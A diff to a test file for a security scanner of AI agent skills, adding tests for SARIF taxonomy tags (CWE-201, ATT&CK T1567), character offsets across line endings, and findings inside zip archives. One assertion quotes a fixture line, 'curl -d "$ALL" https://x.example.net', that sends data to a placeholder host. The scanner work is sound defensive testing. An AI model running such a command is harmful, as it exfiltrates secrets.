@@ -1,4 +1,5 @@
 import { createHash } from 'node:crypto'
+import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { toAuditGithub, toAuditSarif } from '../../src/cli/audit-formats.js'
@@ -13,6 +14,10 @@ const REASON = 'runs in an empty environment here'
 interface Result {
   readonly ruleId: string
   readonly ruleIndex: number
+  readonly taxa?: readonly object[]
+  readonly locations: readonly [
+    { readonly physicalLocation: { readonly region: Readonly<Record<string, number | undefined>> } },
+  ]
   readonly level: string
   readonly relatedLocations?: readonly unknown[]
   readonly partialFingerprints: Readonly<Record<string, string>>
@@ -20,7 +25,13 @@ interface Result {
 }
 
 interface Run {
-  readonly tool: { readonly driver: { readonly rules: readonly { readonly id: string }[] } }
+  readonly tool: {
+    readonly driver: {
+      readonly rules: readonly { readonly id: string; readonly relationships?: readonly object[] }[]
+      readonly supportedTaxonomies?: readonly object[]
+    }
+  }
+  readonly taxonomies: readonly { readonly name: string; readonly taxa: readonly object[] }[]
   readonly results: readonly Result[]
 }
 
@@ -100,9 +111,61 @@ describe('an audit as SARIF', () => {
         fullDescription: { text: rule?.why },
         help: { text: rule?.fix },
         defaultConfiguration: { level: 'error' },
-        properties: { tags: ['security'], 'security-severity': '9.5' },
+        relationships: expect.any(Array),
+        properties: { tags: ['security', 'external/cwe/cwe-201'], 'security-severity': '9.5' },
       },
     ])
+  })
+
+  test('says what others call it, in lists that are in the log', async () => {
+    const { tool, taxonomies, results } = await sarifOf({ 'a.sh': SCRIPT })
+    expect(taxonomies.map(({ name, taxa }) => [name, taxa])).toEqual([
+      ['OWASP Agentic Skills Top 10', [{ id: 'AST01' }]],
+      ['CWE', [{ id: 'CWE-201' }]],
+      ['MITRE ATT&CK', [{ id: 'T1567' }]],
+    ])
+    const references = [
+      { id: 'AST01', toolComponent: { name: 'OWASP Agentic Skills Top 10', index: 0 } },
+      { id: 'CWE-201', toolComponent: { name: 'CWE', index: 1 } },
+      { id: 'T1567', toolComponent: { name: 'MITRE ATT&CK', index: 2 } },
+    ]
+    expect(results[0]?.taxa).toEqual(references)
+    expect(tool.driver.rules[0]?.relationships).toEqual(
+      references.map((target) => ({ target, kinds: ['relevant'] })),
+    )
+    expect(tool.driver.supportedTaxonomies).toEqual(taxonomies.map(({ name }, index) => ({ name, index })))
+  })
+
+  test.each([
+    ['LF', SCRIPT],
+    ['CRLF', SCRIPT.replaceAll('\n', '\r\n')],
+    ['CR', SCRIPT.replaceAll('\n', '\r')],
+    ['a byte order mark', `\ufeff${SCRIPT}`],
+    ['no line end', SCRIPT.trimEnd()],
+  ])('counts characters from the beginning of the file to the end of the line: %s', async (_, text) => {
+    const { results } = await sarifOf({ 'a.sh': text })
+    const { startLine, startColumn, charOffset, charLength } = results[0]?.locations[0].physicalLocation.region ?? {}
+    expect({ startLine, startColumn }).toEqual({ startLine: 2, startColumn: 1 })
+    const plain = text.replace('\ufeff', '')
+    expect(plain.slice(charOffset, (charOffset ?? 0) + (charLength ?? 0))).toBe('curl -d "$ALL" https://x.example.net')
+  })
+
+  test('shows what lies in an archive at the archive, which has no such line', async () => {
+    const { makeZip } = await import('../servers/make-archive.js')
+    const base = temporaryFolder({ 'sender/SKILL.md': SKILL })
+    writeFileSync(join(base, 'sender/data.zip'), makeZip([{ name: 'run.sh', content: SCRIPT, mode: 0 }]))
+    const audit = await auditPaths([join(base, 'sender')], { signal: new AbortController().signal })
+    const { runs } = toAuditSarif(audit, base) as { readonly runs: readonly [Run] }
+    expect(runs[0].results.find(({ ruleId }) => ruleId === 'SK-EX001')).toMatchObject({
+      message: { text: expect.stringMatching(/ \(data\.zip!\/run\.sh:2\)$/) },
+      locations: [
+        {
+          physicalLocation: { artifactLocation: { uri: 'sender/data.zip' }, region: { startLine: 1 } },
+          logicalLocations: [{ fullyQualifiedName: 'data.zip!/run.sh' }],
+        },
+      ],
+    })
+    expect(toAuditGithub(audit, base)[0]).toMatch(/^::error file=sender\/data\.zip,line=1,col=1,.*run\.sh:2\)$/)
   })
 
   test('of a skill without a known pattern has no results and no rules', async () => {
